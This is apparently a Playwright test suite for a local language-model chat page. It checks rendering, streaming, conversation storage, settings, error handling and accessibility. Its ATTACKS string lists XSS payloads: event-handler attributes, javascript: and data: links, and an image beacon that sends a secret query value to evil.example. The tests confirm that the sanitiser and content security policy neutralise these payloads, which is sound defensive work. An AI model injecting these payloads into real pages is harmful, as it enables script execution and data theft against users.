"""The chat page in a real browser, against a server that says what each test tells it to.

One browser for all tests, one fresh profile (context) for each. Every test also claims, when it ends, that the page has asked
nothing of any other server, has written no error to the console and has opened no dialog of the browser's own.
"""

from __future__ import annotations

import json
import re
import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers.echo_model import parrot
from helpers.scripted_server import CONTEXT, Reply, ScriptedServer, running
from helpers.server_process import Running, serving

playwright = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install playwright")
expect = playwright.expect

pytestmark = [pytest.mark.browser, pytest.mark.slow]

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ARGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update"]
PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True}
# The browser writes this itself for every answer that is an error; what the page makes of it is what the tests are about.
NO_ERROR_OF_OURS = "Failed to load resource"
CHECKS = (Path(__file__).parent / "page_checks.js").read_text().partition("\n\n")[2].strip()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if CHROMIUM is None:
        pytest.skip("needs a browser: apt-get install chromium")
    with playwright.sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=[*ARGS, "--disable-sync"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def scripted() -> Iterator[ScriptedServer]:
    with running() as server:
        yield server


@pytest.fixture
def script(scripted: ScriptedServer) -> ScriptedServer:
    scripted.reset()
    return scripted


class Chat:
    """The page, by what is on it."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.question = page.get_by_label("Your question")
        self.answers = page.locator(".of-model .prose")
        self.questions = page.locator(".question")
        self.items = page.locator("#conversations .item")
        self.fault = page.locator(".fault")
        self.end = page.locator(".of-model .ends").last

    def ask(self, text: str) -> None:
        self.question.fill(text)
        self.question.press("Enter")

    def answered(self, text: str, count: int = 1) -> None:
        """Waits until there are so many answers, the last with this text, and nothing is on its way."""
        expect(self.answers).to_have_count(count)
        expect(self.answers.last).to_contain_text(text)
        expect(self.page.locator("#stop")).to_be_hidden()

    def button(self, name: str) -> Any:
        return self.page.get_by_role("button", name=name, exact=True)

    def check(self, name: str, argument: Any = None) -> Any:
        """Calls one of the functions of page_checks.js in the page."""
        return self.page.evaluate(f"(argument) => {CHECKS}.{name}(argument)", argument)

    def setting(self, **values: str) -> None:
        self.page.keyboard.press("Control+,")
        for name, value in values.items():
            field = self.page.locator(f"#settings [name={name}]")
            field.fill(value)
            field.blur()
        self.button("Done").click()


@pytest.fixture
def open_page(browser: Any, script: ScriptedServer) -> Iterator[Callable[..., Chat]]:
    """Opens the page in a profile of its own; `allowed` are console errors that the test provokes."""
    contexts, problems = [], []

    def opened(allowed: str = r"$.", url: str = "", keyed: bool = False, init: str = "", **options: Any) -> Chat:
        url = url or script.url
        context = browser.new_context(**{"viewport": {"width": 1100, "height": 760}, **options})
        context.set_default_timeout(10_000)
        contexts.append(context)
        context.add_init_script(init)
        page = context.new_page()

        def note(text: str) -> None:
            if not re.search(f"{NO_ERROR_OF_OURS}|{allowed}", text):
                problems.append(text)

        page.on("request", lambda request: request.url.startswith((url, "blob:")) or note(f"asked {request.url}"))
        page.on("pageerror", lambda error: note(f"error {error}"))
        page.on("dialog", lambda dialog: (note(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda line: line.type != "error" or note(line.text))
        page.goto(url)
        expect(page.locator("#model")).to_have_text("" if keyed else "bumblebee")
        return Chat(page)

    yield opened
    for context in contexts:
        context.close()
    assert problems == []


@pytest.fixture
def chat(open_page: Callable[..., Chat]) -> Chat:
    return open_page()


# --- examples ---


def test_an_example_can_be_changed_before_it_is_sent(chat: Chat, script: ScriptedServer) -> None:
    examples = chat.page.locator("#examples button")
    expect(examples).to_have_count(3)
    text = examples.nth(1).inner_text()
    examples.nth(1).click()
    expect(chat.question).to_have_value(text)
    chat.question.press_sequentially(" Please.")
    chat.question.press("Enter")
    chat.answered("Fine, thank you.")
    assert script.bodies[0]["messages"][0]["content"] == f"{text} Please."
    expect(examples.first).to_be_hidden()


@pytest.mark.parametrize("offered", [[], ["What does `copy.copy` do?", "<b>Bold</b>"]])
def test_a_servers_own_examples_stand_for_the_general_ones(
    offered: list[str], open_page: Callable[..., Chat], script: ScriptedServer
) -> None:
    script.examples = offered
    expect(open_page().page.locator("#examples button")).to_have_text(offered)


# --- answers ---


def test_an_answer_is_shown_as_markdown_with_its_figures(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("# Title\n\nSome **bold** text\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done", pause=0.01))
    chat.ask("Show me")
    chat.answered("Some bold text")
    expect(chat.answers.locator("strong")).to_have_text("bold")
    expect(chat.answers.locator("td")).to_have_text(["1", "2"])
    expect(chat.answers.locator("h3")).to_have_text("Title")
    expect(chat.answers.locator("li")).to_contain_text("☑ done")
    expect(chat.page.locator(".figures")).to_have_text(
        re.compile(r"bumblebee · \d+ tokens · [\d.]+ tokens/s · first after [\d.]+ s")
    )
    assert script.bodies[0]["messages"] == [{"role": "user", "content": "Show me"}]


def test_text_is_shown_while_it_comes(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("first **second** " + "word " * 200, pause=0.05))
    chat.ask("Slowly")
    expect(chat.answers.locator("strong")).to_have_text("second")
    expect(chat.page.locator("#stop")).to_be_visible()
    chat.page.keyboard.press("Escape")


VARIED = """1. one

   ```py
   x = 1
   ```
2. two

[link][l] and *em*

> quote
> more

```
open

[l]: https://example.com/
```

[l]: https://example.org/"""


def test_growing_text_ends_as_it_would_in_one_piece(chat: Chat, script: ScriptedServer) -> None:
    script.replies += [Reply(VARIED, pause=0.02), Reply(VARIED)]
    chat.ask("In pieces")
    chat.answered("quote")
    chat.ask("At once")
    chat.answered("quote", 2)
    pieces, whole = chat.answers.all()
    assert pieces.inner_html() == whole.inner_html()
    assert pieces.locator("a").get_attribute("href") == "https://example.org/"


def test_code_is_coloured_and_copied(chat: Chat, script: ScriptedServer) -> None:
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    script.replies.append(Reply("```python\ndef f():\n    return '<b>'\n```"))
    chat.ask("Code")
    chat.answered("def f()")
    expect(chat.answers.locator(".hljs-keyword").first).to_have_text("def")
    chat.button("Copy the code").click()
    assert chat.page.evaluate("navigator.clipboard.readText()") == "def f():\n    return '<b>'"


def test_an_answer_is_copied_as_it_was_written(chat: Chat, script: ScriptedServer) -> None:
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    script.replies.append(Reply("Some **bold** text"))
    chat.ask("Text")
    chat.answered("bold")
    chat.button("Copy the answer").click()
    expect(chat.page.locator("#spoken")).to_contain_text("Copied")
    assert chat.page.evaluate("navigator.clipboard.readText()") == "Some **bold** text"


def test_copying_works_over_plain_http_too(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    """Where the browser gives the page no clipboard: not on this machine, and no TLS."""
    chat = open_page(init="Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    chat.ask("Text")
    chat.answered("Fine, thank you.")
    chat.button("Copy the answer").click()
    chat.question.press("Control+v")
    expect(chat.question).to_have_value("Fine, thank you.")


def test_stop_leaves_the_request_and_keeps_the_text(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("one two three " + "more " * 500, pause=0.05))
    chat.ask("Long")
    expect(chat.answers).to_contain_text("three")
    chat.button("Stop the answer").click()
    expect(chat.end).to_contain_text("Stopped.")
    expect(chat.answers).to_contain_text("one two three")
    expect(chat.question).to_be_focused()
    eventually(lambda: script.left == 1)


def test_answering_again_replaces_the_answer_and_can_be_undone(chat: Chat, script: ScriptedServer) -> None:
    script.replies += [Reply("The first"), Reply("The second")]
    chat.ask("Which?")
    chat.answered("The first")
    chat.button("Answer again").click()
    chat.answered("The second")
    assert script.bodies[0]["messages"] == script.bodies[1]["messages"]
    chat.button("Undo").click()
    chat.answered("The first")


def test_an_edited_question_is_answered_anew(chat: Chat, script: ScriptedServer) -> None:
    for word in ("one", "two"):
        chat.ask(f"Question {word}")
        chat.answered("Fine", len(script.bodies) or 1)
    script.replies.append(Reply("Changed."))
    chat.questions.first.hover()
    chat.button("Edit and send again").first.click()
    chat.page.get_by_label("Edit the question").fill("Question three")
    chat.page.get_by_label("Edit the question").press("Enter")
    chat.answered("Changed.")
    expect(chat.questions).to_have_text(["Question three"])
    assert [message["content"] for message in script.bodies[-1]["messages"]] == ["Question three"]


def test_editing_can_be_given_up(chat: Chat, script: ScriptedServer) -> None:
    chat.ask("Question")
    chat.answered("Fine")
    chat.button("Edit and send again").focus()
    chat.page.keyboard.press("Enter")
    chat.page.get_by_label("Edit the question").fill("Another")
    chat.page.keyboard.press("Escape")
    expect(chat.questions).to_have_text("Question")
    assert len(script.bodies) == 1


def test_an_answer_cut_at_the_limit_says_so_and_goes_on(chat: Chat, script: ScriptedServer) -> None:
    script.replies += [Reply("It begins", finish="length"), Reply("and ends.")]
    chat.ask("Tell me")
    expect(chat.end).to_contain_text("reached the limit of tokens")
    chat.button("Continue").click()
    chat.answered("and ends.", 2)
    roles = [message["role"] for message in script.bodies[1]["messages"]]
    assert roles == ["user", "assistant", "user"]
    expect(chat.button("Continue")).to_have_count(0)


def test_thoughts_are_folded_away(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("<think>hm hm</think>\n\nForty-two."))
    chat.ask("Think")
    chat.answered("Forty-two.")
    expect(chat.page.get_by_text("hm hm")).to_be_hidden()
    chat.page.get_by_text("Thoughts").click()
    expect(chat.page.get_by_text("hm hm")).to_be_visible()


def test_the_meter_tells_the_tokens_of_the_context(chat: Chat, script: ScriptedServer) -> None:
    script.replies += [Reply("a b c", prompt_tokens=1000), Reply("a b c", prompt_tokens=CONTEXT - 100)]
    chat.ask("One")
    expect(chat.page.locator("#meter")).to_have_text(re.compile(r"1,003 of 4,096 tokens"))
    chat.ask("Two")
    expect(chat.page.locator("#meter")).to_have_class("nearly-full")


def test_the_view_follows_the_text_only_from_its_end(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("line\n\n" * 60 + "then " + "more\n\n word " * 60, pause=0.02))
    chat.ask("Long")
    eventually(lambda: chat.check("atEnd"))
    chat.page.locator("#scroller").evaluate("e => e.scrollTop = 0")
    expect(chat.page.locator("#jump")).to_be_visible()
    chat.page.wait_for_timeout(300)
    assert chat.page.locator("#scroller").evaluate("e => e.scrollTop") == 0
    chat.button("Latest").click()
    eventually(lambda: chat.check("atEnd"))


def test_while_an_answer_comes_the_others_are_left_alone(chat: Chat, script: ScriptedServer) -> None:
    """Elements of finished messages, and of finished blocks, stay the very same."""
    chat.ask("One")
    chat.answered("Fine")
    script.replies.append(Reply("first\n\nsecond\n\nthird\n\n" + "word " * 60, pause=0.02))
    chat.ask("Two")
    expect(chat.answers.last).to_contain_text("word word")
    chat.check("mark")
    chat.answered("word", 2)
    assert chat.check("marked") == 3


# --- what a model might write ---

ATTACKS = """Hello <img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))
![spy](https://evil.example/spy.png?q=secret) ![own](/v1/models)

<svg onload=alert(4)><a xlink:href="javascript:alert(5)"><text>t</text></a></svg> <iframe src="https://evil.example"></iframe>
<a href="JaVaScRiPt:alert(6)">six</a>
<a href="data:text/html,<script>alert(7)</script>">seven</a> <math><mi xlink:href="javascript:alert(8)"></math>

<form action="https://evil.example"><input name=q><button>Send</button></form> <style>body { display: none }</style>
<div id="question" class="fault" style="position:fixed">not the page's</div>
<details open ontoggle=alert(9)><summary>s</summary>d</details>
<a href="https://example.org" target="_self" onclick="alert(10)">ten</a> <video src=x onerror=alert(11)> <base href="https://evil.example/">

```html"onmouseover="alert(12)
<img src=x onerror=alert(13)>
```

[ref]

[ref]: javascript:alert(14)
"""


def test_what_a_model_writes_cannot_run_or_load_anything(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply(ATTACKS, pause=0.005))
    chat.ask("Attack <img src=x onerror=alert(0)>")
    chat.answered("ten")
    chat.page.wait_for_timeout(200)
    harm = chat.check("harm", "#thread")
    assert harm == []
    links = chat.check("links", "#thread")
    assert links == [["https://evil.example/spy.png?q=secret", "_blank", "noopener noreferrer nofollow"]]
    expect(chat.page.locator(".prose .fault")).to_have_count(0)


def test_the_sanitiser_alone_would_do(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    """The same as HTML, not as Markdown, where tags with attributes are text already."""
    chat = open_page(allowed="violates")  # the parser itself refuses these
    chat.check("putHarmless", ATTACKS)
    chat.page.wait_for_timeout(200)
    assert chat.check("harm", "#thread") == []
    links = chat.check("links", "#thread")
    assert links == [["https://example.org", "_blank", "noopener noreferrer nofollow"]]


def test_the_policy_is_in_force(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    """The second wall: what would come past the sanitiser could not run either."""
    chat = open_page(allowed="Content Security Policy|requires 'Trusted|^asked https://evil.example/x.png$")
    result = chat.check("attempts")
    assert result["ended"] == ["TypeError", "TypeError", "TypeError"]
    assert {"require-trusted-types-for", "connect-src", "img-src", "style-src-attr"} <= set(result["seen"])
    assert result["color"] != "rgb(255, 0, 0)"


# --- conversations ---


def test_conversations_survive_a_reload(chat: Chat, script: ScriptedServer) -> None:
    chat.ask("Do you remember?")
    chat.answered("Fine, thank you.")
    chat.page.reload()
    expect(chat.questions).to_have_text("Do you remember?")
    expect(chat.answers).to_have_text("Fine, thank you.")
    expect(chat.items).to_have_count(1)


def test_an_answer_cut_off_by_closing_the_page_keeps_its_text(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("one two three " + "more " * 500, pause=0.05))
    chat.ask("Long")
    expect(chat.answers).to_contain_text("three")
    chat.page.reload()
    expect(chat.answers).to_contain_text("one two three")
    expect(chat.end).to_contain_text("The connection was lost")
    expect(chat.button("Continue")).to_be_visible()


def test_conversations_are_renamed_found_and_deleted(chat: Chat, script: ScriptedServer) -> None:
    for index, text in enumerate(("About lists", "About tuples")):
        chat.ask(text)
        chat.answered("Fine")
        expect(chat.items).to_have_count(index + 1)
        chat.button("New conversation").click()
    chat.items.filter(has_text="About lists").hover()
    chat.button("Rename “About lists”").click()
    chat.page.get_by_label("Name of the conversation").first.fill("Sequences")
    chat.page.keyboard.press("Enter")
    expect(chat.items).to_have_count(2)
    chat.page.get_by_label("Search conversations").fill("sequ")
    expect(chat.items).to_have_text(["Sequences"])
    chat.page.get_by_label("Search conversations").fill("nothing like it")
    expect(chat.page.locator("#none-found")).to_have_text("Nothing found.")
    chat.page.get_by_label("Search conversations").fill("")
    chat.items.filter(has_text="Sequences").hover()
    chat.button("Delete “Sequences”").click()
    expect(chat.items).to_have_text(["About tuples"])
    chat.button("Undo").click()
    expect(chat.items).to_have_count(2)


def test_exports_can_be_imported_again(chat: Chat, script: ScriptedServer, tmp_path: Path) -> None:
    chat.ask("Export me")
    chat.answered("Fine")
    saved = {kind: export(chat, f"Export as {kind}", tmp_path) for kind in ("Markdown", "JSON")}
    assert saved["Markdown"].name == "Export-me.md"
    assert saved["Markdown"].read_text() == "# Export me\n\n## You\n\nExport me\n\n## Bumblebee\n\nFine, thank you.\n"
    [stored] = json.loads(saved["JSON"].read_text())["conversations"]
    assert [message["role"] for message in stored["messages"]] == ["user", "assistant"]
    chat.page.keyboard.press("Control+,")
    chat.page.locator("#import-file").set_input_files(saved["JSON"])
    expect(chat.items).to_have_text(["Export me", "Export me"])


def test_a_file_that_is_none_of_ours_is_refused(chat: Chat, script: ScriptedServer) -> None:
    chat.page.keyboard.press("Control+,")
    chat.page.locator("#import-file").set_input_files({"name": "x.json", "mimeType": "application/json", "buffer": b"{oops"})
    expect(chat.page.locator("#import-error")).to_have_text("This file is not JSON.")
    expect(chat.items).to_have_count(0)


def test_an_answer_goes_on_while_another_conversation_is_read(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("word " * 40 + "end", pause=0.03))
    chat.ask("In the background")
    expect(chat.answers).to_contain_text("word")
    chat.button("New conversation").click()
    expect(chat.items.locator(".dot")).to_have_count(1)
    chat.ask("In front")
    chat.answered("Fine")
    expect(chat.items.locator(".dot")).to_have_count(0, timeout=10_000)
    chat.items.filter(has_text="In the background").click()
    chat.answered("end")


def test_a_full_storage_is_told(chat: Chat, script: ScriptedServer) -> None:
    chat.check("fill")
    chat.ask("Is there room?")
    expect(chat.page.locator("#notes")).to_contain_text("storage is full")
    chat.answered("Fine")


# --- settings ---


def test_settings_reach_the_request_and_nothing_else_does(chat: Chat, script: ScriptedServer) -> None:
    chat.ask("Before")
    chat.answered("Fine")
    numbers: dict[str, Any] = {
        "temperature": 0.3, "top_p": 0.9, "top_k": 40, "min_p": 0.05, "max_tokens": 64, "seed": 7,
        "repetition_penalty": 1.1, "presence_penalty": 0.5, "frequency_penalty": -0.5,
    }  # fmt: skip
    chat.setting(system="Be short.", **{name: str(value) for name, value in numbers.items()})
    chat.page.reload()
    chat.ask("After")
    chat.answered("Fine", 2)
    before, after = script.bodies
    always = {"model": "bumblebee", "stream": True, "stream_options": {"include_usage": True}}
    assert {name: value for name, value in before.items() if name != "messages"} == always
    assert {name: value for name, value in after.items() if name != "messages"} == always | numbers
    assert after["messages"][0] == {"role": "system", "content": "Be short."}


def test_what_the_server_takes_by_itself_is_shown(chat: Chat, script: ScriptedServer) -> None:
    chat.page.keyboard.press("Control+,")
    expect(chat.page.get_by_label("Temperature")).to_have_attribute("placeholder", "0.7")
    expect(chat.page.get_by_label("Top k")).to_have_attribute("placeholder", "server's")


def test_a_number_out_of_its_range_is_not_taken(chat: Chat, script: ScriptedServer) -> None:
    chat.setting(temperature="9")
    chat.ask("Question")
    chat.answered("Fine")
    assert "temperature" not in script.bodies[0]


@pytest.mark.parametrize("system", ["light", "dark"])
def test_the_theme_is_the_systems_or_the_readers(open_page: Callable[..., Chat], system: str) -> None:
    chat = open_page(color_scheme=system)
    root = chat.page.locator("html")
    expect(root).to_have_attribute("data-theme", system)
    chat.page.keyboard.press("Control+Shift+L")
    other = "light" if system == "dark" else "dark"
    expect(root).to_have_attribute("data-theme", other)
    chat.page.reload()
    expect(root).to_have_attribute("data-theme", other)


# --- the completion mode ---


def test_a_text_is_continued_and_taken_back(chat: Chat, script: ScriptedServer) -> None:
    script.replies += [Reply(" upon a time", finish="length"), Reply(" there was")]
    chat.page.get_by_role("radio", name="Completion").check()
    text = chat.page.get_by_label("Text that the model continues")
    text.fill("Once")
    text.press("Control+Enter")
    expect(text).to_have_value("Once upon a time")
    expect(chat.page.locator("#text-end")).to_contain_text("reached the limit")
    chat.button("Continue the text").click()
    expect(text).to_have_value("Once upon a time there was")
    chat.button("Take back").click()
    expect(text).to_have_value("Once upon a time")
    assert script.paths == ["/v1/completions"] * 2
    assert [body["prompt"] for body in script.bodies] == ["Once", "Once upon a time"]
    chat.page.reload()
    expect(text).to_have_value("Once upon a time")


def test_a_text_is_kept_when_another_is_opened_right_after_the_last_key(chat: Chat, script: ScriptedServer) -> None:
    chat.page.get_by_role("radio", name="Completion").check()
    text = chat.page.get_by_label("Text that the model continues")
    text.fill("The first")
    chat.page.keyboard.press("Control+Shift+O")
    expect(chat.items).to_have_text(["The first"])
    expect(text).to_have_value("")
    text.fill("The second")
    chat.items.first.click()
    expect(text).to_have_value("The first")
    expect(chat.items).to_have_count(2)


# --- what goes wrong ---


def test_without_a_key_the_page_asks_for_it(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    script.key = "secret"
    chat = open_page(keyed=True)
    expect(chat.page.locator("#banner")).to_contain_text("asks for an API key")
    chat.ask("May I?")
    expect(chat.fault).to_contain_text("The server asks for an API key")
    chat.fault.get_by_role("button", name="Enter the key").click()
    expect(chat.page.get_by_label("API key")).to_be_focused()
    chat.page.keyboard.type("secret")
    chat.page.keyboard.press("Enter")
    expect(chat.page.locator("#banner")).to_be_hidden()
    chat.button("Try again").click()
    chat.answered("Fine")


def test_a_busy_server_is_asked_again_after_its_time(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply(status=429, message="queue full", headers={"Retry-After": "1"}))
    chat.ask("Now?")
    expect(chat.fault).to_contain_text("The server is busy")
    expect(chat.fault.get_by_role("button")).to_be_disabled()
    expect(chat.fault.get_by_role("button")).to_have_text("Try again")
    chat.fault.get_by_role("button").click()
    chat.answered("Fine")


def test_a_server_that_loads_is_waited_for(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    script.ready = False
    chat = open_page()
    expect(chat.page.locator("#banner")).to_contain_text("The model is not ready")
    chat.ask("Are you there?")
    expect(chat.fault).to_contain_text("the question is sent as soon as")
    assert script.bodies == []
    script.ready = True
    chat.answered("Fine")
    expect(chat.page.locator("#banner")).to_be_hidden()
    expect(chat.fault).to_have_count(0)


def test_waiting_can_be_stopped(chat: Chat, script: ScriptedServer) -> None:
    script.ready = False
    chat.ask("Are you there?")
    expect(chat.fault).to_be_visible()
    chat.question.press("Escape")
    expect(chat.end).to_contain_text("Stopped.")


def test_an_unreachable_server_is_told_of_and_noticed_when_back(chat: Chat, script: ScriptedServer) -> None:
    chat.page.context.set_offline(True)
    chat.ask("Hello?")
    expect(chat.fault).to_contain_text("The server cannot be reached")
    expect(chat.page.locator("#banner")).to_contain_text("cannot be reached")
    chat.page.context.set_offline(False)
    expect(chat.page.locator("#banner")).to_be_hidden()
    chat.button("Try again").click()
    chat.answered("Fine")


def test_a_connection_lost_midway_keeps_the_text(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("one two three four", pause=0.05, drop=2))
    chat.ask("Count")
    expect(chat.fault).to_contain_text("The connection was lost")
    expect(chat.answers).to_have_text("one two")
    for name in ("Continue", "Try again"):
        expect(chat.fault.get_by_role("button", name=name)).to_be_visible()
    chat.fault.get_by_role("button", name="Try again").click()
    chat.answered("Fine")


def test_an_error_in_the_stream_is_shown(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("one two", fault="the worker has died"))
    chat.ask("Count")
    expect(chat.fault).to_contain_text("the worker has died")
    expect(chat.answers).to_have_text("one two")


def test_a_conversation_too_long_says_the_numbers_and_offers_a_new_one(chat: Chat, script: ScriptedServer) -> None:
    message = "the model reads 4096 tokens; these are 5000"
    script.replies.append(Reply(status=400, message=message, code="context_length_exceeded"))
    chat.ask("Long " * 10)
    expect(chat.fault).to_contain_text("too long for the model")
    expect(chat.fault).to_contain_text(message)
    chat.fault.get_by_role("button", name="New conversation").click()
    expect(chat.questions).to_have_count(0)


def test_markup_in_an_error_is_text(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply(status=400, message="<img src=x onerror=alert(1)>"))
    chat.ask("Question")
    expect(chat.fault).to_contain_text("<img src=x")
    expect(chat.fault.locator("img")).to_have_count(0)


# --- by keyboard, on a phone, for everybody ---


def test_everything_can_be_done_by_keyboard(chat: Chat, script: ScriptedServer) -> None:
    keys = chat.page.keyboard
    expect(chat.question).to_be_focused()
    keys.type("first")
    keys.press("Shift+Enter")
    keys.type("second")
    keys.press("Enter")
    chat.answered("Fine")
    assert script.bodies[0]["messages"][0]["content"] == "first\nsecond"
    keys.press("Control+/")
    expect(chat.page.get_by_role("dialog", name="Keyboard shortcuts")).to_be_visible()
    keys.press("Escape")
    expect(chat.question).to_be_focused()
    keys.press("Control+Shift+O")
    expect(chat.questions).to_have_count(0)
    keys.press("Control+k")
    keys.type("first")
    keys.press("Tab")
    expect(chat.items.locator(".open")).to_be_focused()
    keys.press("F2")
    keys.type("Named by keyboard")
    keys.press("Enter")
    chat.page.get_by_label("Search conversations").fill("")
    expect(chat.items).to_have_text(["Named by keyboard"])
    chat.items.locator(".open").press("Enter")
    expect(chat.page.get_by_role("heading", level=1)).to_have_text("Named by keyboard")
    expect(chat.question).to_be_focused()
    chat.items.locator(".open").press("Delete")
    expect(chat.items).to_have_count(0)


def test_the_focus_is_seen_wherever_it_is(chat: Chat, script: ScriptedServer) -> None:
    chat.ask("Question")
    chat.answered("Fine")
    chat.page.locator(".skip").focus()
    unseen, seen = [], set()
    for _ in range(40):
        chat.page.keyboard.press("Tab")
        name, visible = chat.check("focused")
        seen.add(name)
        unseen += [] if visible else [name]
    assert unseen == []
    assert {"question", "send", "search", "open-settings", "menu", "more", "Copy the answer", "Answer again"} <= seen


@pytest.mark.parametrize("where", ["conversation", "settings", "shortcuts"])
def test_every_control_has_a_name_and_every_id_is_there_once(chat: Chat, where: str) -> None:
    chat.ask("Question")
    chat.answered("Fine")
    if where != "conversation":
        chat.page.keyboard.press({"settings": "Control+,", "shortcuts": "Control+/"}[where])
    assert chat.check("nameless") == []
    ids = chat.check("ids")
    assert len(ids) == len(set(ids))
    assert set(chat.check("referred")) <= set(ids)
    for landmark in ("main", "h1", "aside[aria-label]", "nav[aria-label]"):
        expect(chat.page.locator(landmark)).to_have_count(1)


COLOURS = """Text [link](https://example.org) `code`

> quote

| a |
|---|
| b |

```python
@wrap
class A(int):
    'text'
    def f(self, x: int = 1.5) -> None:  # note
        return print(None)
```

```diff
- a
+ b
```
"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_text_stands_out_from_its_ground(open_page: Callable[..., Chat], script: ScriptedServer, theme: str) -> None:
    """WCAG 2.2, 1.4.3: at least 4.5 to 1, measured on the colours that are shown."""
    chat = open_page(color_scheme=theme, reduced_motion="reduce")
    script.replies += [Reply(COLOURS), Reply(status=500, message="oops")]
    chat.ask("Colours")
    chat.answered("quote")
    chat.ask("An error")
    expect(chat.fault).to_be_visible()
    assert chat.check("faint") == []
    chat.page.keyboard.press("Control+,")
    assert chat.check("faint") == []


def test_on_a_phone_the_list_is_a_drawer(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    chat = open_page(**PHONE)
    script.replies.append(
        Reply(
            "| a | b | c | d | e | f |\n|-|-|-|-|-|-|\n| 1 | 2 | 3 | 4 | 5 | 6 |\n\n```\n" + "x" * 300 + "\n```\n\n" + "y" * 300
        )
    )
    chat.ask("On a phone")
    chat.answered("1")
    assert chat.page.evaluate("document.documentElement.scrollWidth") == 390
    expect(chat.items).to_be_hidden()
    chat.button("Conversations").tap()
    expect(chat.items).to_be_visible()
    assert chat.check("small") == []
    assert chat.check("smallestField") >= 16  # below, phones zoom in when a field gets the focus
    chat.items.locator(".open").tap()
    expect(chat.items).to_be_hidden()
    chat.button("Conversations").tap()
    chat.page.keyboard.press("Escape")
    expect(chat.items).to_be_hidden()
    expect(chat.button("Conversations")).to_be_focused()


def test_screen_readers_hear_the_answer_in_whole_blocks(chat: Chat, script: ScriptedServer) -> None:
    script.replies.append(Reply("The first paragraph.\n\nThe second one.\n\nThe third.", pause=0.03))
    chat.check("hear")
    chat.ask("Speak")
    chat.answered("The third.")
    assert chat.page.evaluate("window.heard") == ["The first paragraph.", "The second one.", "The third."]


def test_who_wants_no_motion_gets_none(open_page: Callable[..., Chat], script: ScriptedServer) -> None:
    chat = open_page(reduced_motion="reduce")
    assert chat.check("moving") == 0


def test_a_long_conversation_stays_quick(chat: Chat, script: ScriptedServer) -> None:
    """200 messages are open, and the next answer takes no longer a frame than the first one did."""
    script.replies.append(Reply("One **word** after another.\n\n" * 30 + "end", pause=0.002))
    chat.ask("Short conversation")
    chat.answered("end")
    messages = [{"role": role, "content": "Some **text**.\n\n" * 10} for _ in range(100) for role in ("user", "assistant")]
    file = {"name": "x.json", "mimeType": "application/json", "buffer": json.dumps({"messages": messages}).encode()}
    chat.page.locator("#import-file").set_input_files(file)
    expect(chat.questions).to_have_count(100)
    chat.check("watch")
    script.replies.append(Reply("One **word** after another.\n\n" * 30 + "end", pause=0.002))
    chat.ask("Long conversation")
    chat.answered("end", 101)
    assert chat.page.evaluate("window.longest") < 500


# --- with the real server ---


@pytest.fixture(scope="module")
def parroting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A server whose model answers everything with ATTACKS, and which asks for a key."""
    with serving(parrot(tmp_path_factory.mktemp("parrot"), ATTACKS), "--api_key", "secret") as running_server:
        yield running_server


def test_a_real_answer_can_do_no_harm_either(open_page: Callable[..., Chat], parroting: Running) -> None:
    chat = open_page(url=parroting.url, keyed=True)
    chat.page.locator("#banner").get_by_role("button", name="Enter the key").click()
    chat.page.keyboard.type("secret")
    chat.page.keyboard.press("Enter")
    expect(chat.page.locator("#model")).to_have_text("bumblebee")
    chat.setting(temperature="0")
    chat.ask("Attack")
    chat.answered("ten")
    assert chat.check("harm", "#thread") == []
    expect(chat.page.locator("#meter")).to_have_text(re.compile(r"[\d,]+ of 4,096 tokens"))
    expect(chat.page.locator(".figures")).to_have_text(re.compile(r"tokens/s · first after"))


def test_stopping_frees_the_real_servers_slot(open_page: Callable[..., Chat], server: Running) -> None:
    chat = open_page(url=server.url)
    chat.ask("Write and write")
    server.wait_for_metric("bumblebee_running", 1)
    chat.question.press("Escape")
    server.wait_for_metric("bumblebee_running", 0)
    expect(chat.end).to_contain_text("Stopped.")


def test_the_real_server_tells_how_long_a_conversation_may_be(open_page: Callable[..., Chat], server: Running) -> None:
    chat = open_page(url=server.url)
    chat.ask("Too long. " * 1000)
    expect(chat.fault).to_contain_text("This model's maximum context length is 2048 tokens")


def test_settings_and_completions_are_what_the_real_server_takes(open_page: Callable[..., Chat], server: Running) -> None:
    chat = open_page(url=server.url)
    chat.setting(
        temperature="0.5", top_p="0.9", top_k="5", min_p="0.01", max_tokens="8", seed="3",
        repetition_penalty="1.2", presence_penalty="0.1", frequency_penalty="0.1", system="Be short.",
    )  # fmt: skip
    chat.ask("Hello")
    expect(chat.page.locator(".figures")).to_contain_text("tokens")
    expect(chat.fault).to_have_count(0)
    chat.page.get_by_role("radio", name="Completion").check()
